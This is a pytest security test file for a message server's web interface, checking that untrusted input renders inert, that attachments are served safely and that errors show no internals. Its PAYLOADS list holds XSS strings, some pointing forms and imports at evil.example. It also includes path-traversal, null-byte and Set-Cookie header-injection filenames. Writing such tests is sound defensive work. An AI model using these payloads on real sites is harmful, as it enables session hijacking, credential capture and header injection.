"""What strangers write is only ever text on our pages (THREATS T13, T14), and every answer carries its guards."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import quote

import pytest

from msgserver.records import Role
from msgserver.store.failures import Busy, DiskFull, StoreError
from tests.store.desk import conversation, message
from tests.web.conftest import Web

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<style>@import'http://evil.example/x'</style>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example/><input name=password>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "{{ 7*7 }}{% raw %}",
    "https://x.example/\"onclick=alert(1)//",
    "\u202egpj.exe",
]  # fmt: skip


class Page(HTMLParser):
    """What a browser would run or fetch on a page."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.active: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        self.active += [f"{tag} {name}" for name in found if name.startswith("on") or name == "style"]
        for name in ("href", "src", "action", "formaction", "data"):
            value = (found.get(name) or "").strip()
            if value and not re.match(r"^(/|\?|#|https://x\.example/|$)", value):
                self.active.append(f"{tag} {name}={value}")
        never = ("iframe", "object", "embed", "base", "style", "svg", "math", "img")
        sandbox = found.get("sandbox")
        walled = tag == "iframe" and sandbox is not None and "script" not in sandbox and "origin" not in sandbox
        if (tag in never and not walled) or (tag == "meta" and "http-equiv" in found):
            self.active.append(tag)
        if tag == "script" and not (found.get("src") or "").startswith("/static/"):
            self.active.append("script")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_came_in_is_active_on_any_page(web: Web, payload: str) -> None:
    ana = web.signed_in("ana", role=Role.ADMINISTRATOR)
    ticket_id = web.store.now(conversation, subject=payload, address=f"loop:{payload}", snippet=payload)
    web.store.now(
        message, ticket_id, sender=f"loop:{payload}", sender_name=payload, subject=payload, body=payload, html=payload,
        tags=(f"tag/{payload.replace('/', ' ')}",), connector=payload,
    )  # fmt: skip
    for path in ("/?view=all", f"/tickets/{ticket_id}", f"/tickets/{ticket_id}/thread", "/log", "/?view=all&part=rows"):
        page = ana.get(path)
        assert page.status == 200
        assert Page(page.text).active == [], path


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_is_typed_comes_back_active(web: Web, payload: str) -> None:
    ana = web.signed_in("ana", role=Role.ADMINISTRATOR)
    for path in (
        "/?q=",
        "/log?q=",
        "/people?q=",
        "/messages/new?to=",
        "/login?next=",
        "/?said=",
        "/?view=",
        "/?after=",
    ):
        page = ana.get(path + quote(payload))
        assert page.status in (200, 303)
        assert Page(page.text).active == [], path
    wrong = ana.submit("/messages/new", "/messages/new", to=payload, text=payload, subject=payload)
    if wrong.status != 303:
        assert wrong.status == 422
        assert Page(wrong.text).active == []


@pytest.mark.parametrize(
    ("name", "media_type", "shown"),
    [
        ("../../etc/passwd", "text/plain", "passwd"),
        ("con.txt", "text/plain", "con.txt"),
        ("a\x00b.pdf", "application/pdf", "ab.pdf"),
        ("x" * 4000 + ".pdf", "application/pdf", "x" * 116 + ".pdf"),
        ("a.pdf\u202egpj.exe", "image/jpeg", "a.pdfgpj.exe"),
        ("evil.svg", "image/svg+xml", "evil.svg"),
        ("page.html", "text/html", "page.html"),
        ('a";\r\nSet-Cookie: x=y', "text/plain", 'a";Set-Cookie: x=y'),
        ("", "text/plain", "file"),
        ("مرحبا.txt", "text/plain", "مرحبا.txt"),
    ],
)
def test_attachments_are_saved_and_never_run(web: Web, name: str, media_type: str, shown: str) -> None:
    ana = web.signed_in("ana")
    message_id = web.store.now(message, web.store.now(conversation))
    web.store.now(
        lambda tx: tx.exec_driver_sql(
            "insert into msg_attachment (id, message_id, name, media_type, size, sha256, content)"
            " values (1, ?, ?, ?, 5, 'x', ?)",
            (message_id, name, media_type, b"<svg>"),
        )
    )
    answer = ana.get("/attachments/1")
    assert answer.body == b"<svg>"
    disposition = answer.header("content-disposition")
    assert disposition.startswith("attachment; ")
    assert disposition.endswith(f"filename*=UTF-8''{quote(shown, safe='')}")
    assert answer.header("x-content-type-options") == "nosniff"
    assert answer.header("content-security-policy") == "default-src 'none'; sandbox"
    assert answer.header("content-type") in ("application/octet-stream", "image/jpeg")
    assert "set-cookie" not in answer.headers


def test_the_original_is_plain_text_to_save(web: Web) -> None:
    ana = web.signed_in("ana")
    ticket_id = web.store.now(conversation)
    web.store.now(
        lambda tx: tx.exec_driver_sql(
            "insert into msg_raw (id, connector, wire_id, envelope, size, sha256, received_at)"
            " values (7, 'mail', 'w', '{}', 1, 'x', 1)"
        )
    )
    content = b"Subject: <b>x</b>\r\n\r\n<script>"
    web.store.now(lambda tx: tx.exec_driver_sql("insert into msg_raw_bytes values (7, ?)", (content,)))
    message_id = web.store.now(message, ticket_id, raw_id=7)
    answer = ana.get(f"/messages/{message_id}/original")
    assert answer.body == b"Subject: <b>x</b>\r\n\r\n<script>"
    assert answer.header("content-type") == "text/plain; charset=utf-8"
    assert answer.header("content-disposition").startswith("attachment; ")
    assert "sandbox" in answer.header("content-security-policy")


@pytest.mark.parametrize("path", ["/login", "/nowhere", "/", "/api/v1/messages", "/static/desk.css", "/in/nobody"])
def test_every_answer_carries_its_guards(web: Web, path: str) -> None:
    answer = web.browser().get(path)
    assert answer.header("x-content-type-options") == "nosniff"
    assert "default-src 'none'" in answer.header("content-security-policy")
    assert "frame-ancestors 'none'" in answer.header("content-security-policy")
    assert answer.header("referrer-policy") == "same-origin"
    assert "server" not in answer.headers


def test_a_fault_of_ours_shows_a_number_and_no_traceback(web: Web, monkeypatch: pytest.MonkeyPatch) -> None:
    ana = web.signed_in("ana")

    def broken(*_: object) -> None:
        raise RuntimeError("the secret inside")

    monkeypatch.setattr("msgserver.web.pages.log.messages.log", broken)
    answer = ana.get("/log")
    assert answer.status == 500
    assert "secret inside" not in answer.text
    assert "Traceback" not in answer.text
    assert re.search(r"[0-9a-f]{10}", answer.text)


@pytest.mark.parametrize(
    ("failure", "words"), [(Busy("x"), "busy"), (DiskFull("x"), "disk is full"), (StoreError("x"), "cannot be reached")]
)
def test_the_stores_trouble_is_503_in_words(web: Web, failure: Exception, words: str) -> None:
    ana = web.signed_in("ana")
    web.store.failure = failure
    answer = ana.get("/")
    assert answer.status == 503
    assert words in answer.text
    assert answer.header("retry-after") == "5"


def test_readyz_says_what_is_wrong(web: Web) -> None:
    assert web.browser().get("/readyz").json["ready"] is True
    web.store.failure = DiskFull("the disk is full")
    answer = web.browser().get("/readyz")
    assert answer.status == 503
    assert answer.json == {"ready": False, "database": "The disk is full."}
    assert web.browser().get("/healthz").status == 200


def test_figures_are_for_this_machine_and_operators(web: Web) -> None:
    assert web.browser().get("/metrics").status == 401
    token = web.token(web.user("op", role=Role.OPERATOR))
    answer = web.browser().get("/metrics", Authorization=f"Bearer {token}")
    assert answer.status == 200
    assert 'msgserver_connector_able{connector="mail"} 1.0' in answer.text
    reader = web.token(web.user("reader", role=Role.READER))
    assert web.browser().get("/metrics", Authorization=f"Bearer {reader}").status == 403
